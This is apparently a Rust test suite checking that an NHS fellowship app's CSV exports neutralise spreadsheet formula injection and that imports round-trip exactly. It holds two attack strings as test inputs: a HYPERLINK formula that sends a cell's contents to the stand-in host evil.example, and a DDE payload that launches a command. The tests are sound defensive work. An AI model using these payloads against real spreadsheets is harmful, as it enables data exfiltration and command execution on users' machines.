//! Formulas stay inert in every CSV the app writes (issue 14): text that would open as a formula
//! in a spreadsheet comes out with a leading `'`, and the importers take it off again, so an
//! export reads back exactly.

use std::collections::BTreeMap;

use crate::common::*;
use base64::Engine;
use fellowship::api::dispatch;
use fellowship::api::session::Session;
use fellowship::challenges::Proposal;
use fellowship::csv_io::plain;
use serde_json::{json, Value};

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&B2,"Open")"#;
const CALC: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

fn decode(doc: &Value) -> String {
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(doc["base64"].as_str().unwrap())
        .unwrap();
    String::from_utf8(bytes).unwrap()
}

/// The file as a spreadsheet splits it: a header and rows of raw cells, nothing taken off.
fn cells(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header = r.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = r
        .records()
        .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (header, rows)
}

/// No cell opens as a formula: none starts with a trigger, unless it is a plain number.
fn assert_inert(text: &str) {
    let (header, rows) = cells(text);
    for cell in header.iter().chain(rows.iter().flatten()) {
        let is_number = cell.parse::<f64>().is_ok();
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || is_number,
            "{cell:?} would open as a formula"
        );
    }
}

#[tokio::test]
async fn a_challenge_titled_with_a_formula_comes_out_of_the_export_as_text() {
    let mut w = world().await;
    let t = two_hosts(&w).await;
    w.call(
        "save_challenge",
        json!({
            "id": null, "fellow_id": t.fellow_a, "title": HYPERLINK,
            "problem_statement": "+1 day waits", "earlier_attempts": "", "nature": "wicked",
            "aim_quality": true, "aim_population_health": false, "aim_cost": false,
            "stakeholders": "", "involvement": "",
            "proposal": serde_json::to_value(Proposal::default()).unwrap(),
        }),
    )
    .await
    .unwrap();

    let out = w.dir.path().join("export");
    fellowship::tools::export::export_csv(w.db(), &t.faculty, &out)
        .await
        .unwrap();
    let text = std::fs::read_to_string(out.join("challenges.csv")).unwrap();
    assert!(
        text.contains(r#""'=HYPERLINK(""http://evil.example/?x=""&B2,""Open"")""#),
        "{text}"
    );
    let (header, rows) = cells(&text);
    assert_eq!(
        header,
        [
            "id",
            "fellow",
            "cohort",
            "host_organisation",
            "title",
            "status",
            "progress_score",
            "problem_statement"
        ]
    );
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0][4], format!("'{HYPERLINK}"));
    assert_eq!(rows[0][7], "'+1 day waits");
    assert_eq!(
        plain(&rows[0][4]),
        HYPERLINK,
        "the quote is all that was added"
    );
    assert_inert(&text);
    for file in std::fs::read_dir(&out).unwrap() {
        assert_inert(&std::fs::read_to_string(file.unwrap().path()).unwrap());
    }
}

#[tokio::test]
async fn a_sign_in_email_with_a_formula_comes_out_of_the_audit_trail_as_text() {
    let mut w = world().await;
    let mut stranger = Session::default();
    let e = dispatch(
        &w.ws,
        &mut stranger,
        "sign_in",
        json!({"email": CALC, "password": "guess"}),
    )
    .await
    .unwrap_err();
    assert_ne!(e.kind, fellowship::ErrorKind::Internal);

    let doc = w
        .call(
            "export_audit_log",
            json!({"fellow_id": null, "user_id": null, "action": "sign_in"}),
        )
        .await
        .unwrap();
    let text = decode(&doc);
    assert!(text.contains(&format!(",'{CALC},")), "{text}");
    let (header, rows) = cells(&text);
    let name = header.iter().position(|h| h == "user_name").unwrap();
    let refused: Vec<_> = rows.iter().filter(|r| r[9] == "refused").collect();
    assert_eq!(refused.len(), 1);
    assert_eq!(refused[0][name], format!("'{CALC}"));
    assert_eq!(plain(&refused[0][name]), CALC);
    assert_inert(&text);
}

/// Cohort 2023/24 with one alumna (Ann Alum, ann.alum@nhs.net); her id.
async fn alumna(w: &mut World) -> i64 {
    let cohort = w
        .call(
            "save_cohort",
            json!({"id": null, "name": "2023/24", "start_date": "2023-09-01", "end_date": "2024-08-31"}),
        )
        .await
        .unwrap();
    let fellow = w
        .call(
            "save_fellow",
            json!({"id": null, "name": "Ann Alum", "profession": "medicine", "professional_body": "GMC",
                   "registration_number": "9000001", "email": "ann.alum@nhs.net",
                   "cohort_id": cohort["id"], "host_id": null, "status": "completed",
                   "status_date": "2024-08-31"}),
        )
        .await
        .unwrap();
    fellow["fellow"]["id"].as_i64().unwrap()
}

/// The export's rows for one wave: measure code to the raw value cell.
fn wave_values(text: &str, wave: &str) -> BTreeMap<String, String> {
    let (header, rows) = cells(text);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    rows.iter()
        .filter(|r| r[col("wave")] == wave)
        .map(|r| (r[col("measure")].clone(), r[col("value")].clone()))
        .collect()
}

#[tokio::test]
async fn outcomes_exported_with_formula_like_answers_import_back_exactly() {
    let mut w = world().await;
    let fellow = alumna(&mut w).await;
    let measures = w.call("list_outcome_measures", json!(null)).await.unwrap();
    let id_of = |code: &str| {
        measures
            .as_array()
            .unwrap()
            .iter()
            .find(|m| m["code"] == code)
            .unwrap()["id"]
            .as_i64()
            .unwrap()
    };
    let waves = w.call("list_outcome_waves", json!(null)).await.unwrap();
    let (first, second) = (&waves[0], &waves[1]);
    let typed: BTreeMap<&str, &str> = [
        ("current_role", HYPERLINK),
        ("grade_or_band", "-3"),
        ("organisation", "'Twas Trust"),
        ("legacy_evidence", "'=not a formula"),
        ("leadership_roles", "2"),
    ]
    .into();
    let answers: Vec<Value> = typed
        .iter()
        .map(|(code, v)| json!({"measure_id": id_of(code), "value": v}))
        .collect();
    w.call(
        "save_outcome_response",
        json!({"fellow_id": fellow, "wave_id": first["id"], "responded_on": "2024-10-01",
               "answers": answers}),
    )
    .await
    .unwrap();

    // Out: text is neutralised where it would start a formula; the count stays a number.
    let export = || json!({"pseudonymise": false});
    let text = decode(&w.call("export_outcomes", export()).await.unwrap());
    assert_inert(&text);
    let out = wave_values(&text, first["name"].as_str().unwrap());
    let expected: BTreeMap<String, String> = [
        ("current_role", format!("'{HYPERLINK}")),
        ("grade_or_band", "'-3".into()),
        ("organisation", "'Twas Trust".into()),
        ("legacy_evidence", "''=not a formula".into()),
        ("leadership_roles", "2".into()),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_owned(), v))
    .collect();
    assert_eq!(out, expected);

    // Back in: the exported cells, unchanged, laid out as a survey file for the next wave.
    let mut survey = csv::Writer::from_writer(vec![]);
    let mut header = vec!["Email", "Date"];
    header.extend(out.keys().map(String::as_str));
    survey.write_record(&header).unwrap();
    let mut row = vec!["ann.alum@nhs.net", "2025-09-15"];
    row.extend(out.values().map(String::as_str));
    survey.write_record(&row).unwrap();
    let survey = String::from_utf8(survey.into_inner().unwrap()).unwrap();
    let input = json!({"wave_id": second["id"], "file_name": "reshaped.csv", "csv": survey,
                       "mapping": []});
    let preview = w
        .call("preview_outcome_import", input.clone())
        .await
        .unwrap();
    assert_eq!(preview["problems"], json!([]), "{survey}");
    w.call("import_outcomes", input).await.unwrap();

    let response = w
        .call(
            "get_outcome_response",
            json!({"fellow_id": fellow, "wave_id": second["id"]}),
        )
        .await
        .unwrap();
    let back: BTreeMap<&str, &str> = typed
        .keys()
        .map(|code| {
            let value = response["answers"]
                .as_array()
                .unwrap()
                .iter()
                .find(|a| a["measure_id"] == id_of(code))
                .unwrap()["value"]
                .as_str()
                .unwrap();
            (*code, value)
        })
        .collect();
    assert_eq!(back, typed, "every answer reads back exactly as typed");

    // And the next export writes the imported wave's cells exactly as the first.
    let again = decode(&w.call("export_outcomes", export()).await.unwrap());
    assert_eq!(wave_values(&again, second["name"].as_str().unwrap()), out);
}

#[tokio::test]
async fn a_historic_file_with_neutralised_cells_imports_what_was_typed() {
    let mut w = world().await;
    let template = decode(
        &w.call("historic_import_template", json!(null))
            .await
            .unwrap(),
    );
    assert_eq!(
        template,
        "cohort,cohort_start,cohort_end,name,email,profession,professional_body,registration_number,host,host_kind,status\n\
         2018/19,2018-09-01,2019-08-31,Alex Example,alex.example@nhs.net,medicine,GMC,7000001,Example Hospitals NHS Trust,nhs_trust,completed\n",
        "the template is unchanged"
    );

    // A file as our own exports write it: cells that start like formulas carry a quote.
    let mut lines = template.lines().map(str::to_owned).collect::<Vec<_>>();
    lines[1] = lines[1]
        .replace("2018/19", "'+2018/19")
        .replace("Alex Example", "'=Alex Example")
        .replace("Example Hospitals NHS Trust", "'Twas Trust");
    let input = json!({"file_name": "earlier.csv", "csv": lines.join("\n")});
    let preview = w
        .call("preview_historic_import", input.clone())
        .await
        .unwrap();
    assert_eq!(preview["problems"], json!([]));
    assert_eq!(preview["new_cohorts"], json!(["+2018/19"]));
    assert_eq!(preview["new_hosts"], json!(["'Twas Trust"]));
    w.call("import_historic", input).await.unwrap();

    let fellows = w
        .call(
            "list_fellows",
            json!({"search": null, "cohort_id": null, "profession": null, "host_id": null, "status": null}),
        )
        .await
        .unwrap();
    let f = &fellows[0];
    assert_eq!(
        (f["name"].as_str(), f["cohort_name"].as_str()),
        (Some("=Alex Example"), Some("+2018/19"))
    );
    assert_eq!(f["host_name"], "'Twas Trust");

    // Exported again, each comes out as it went in.
    let out = w.dir.path().join("export");
    let faculty = w.faculty().await;
    fellowship::tools::export::export_csv(w.db(), &faculty, &out)
        .await
        .unwrap();
    let text = std::fs::read_to_string(out.join("fellows.csv")).unwrap();
    assert_inert(&text);
    let (_, rows) = cells(&text);
    assert_eq!(
        (&*rows[0][1], &*rows[0][6], &*rows[0][7]),
        ("'=Alex Example", "'+2018/19", "'Twas Trust")
    );
}
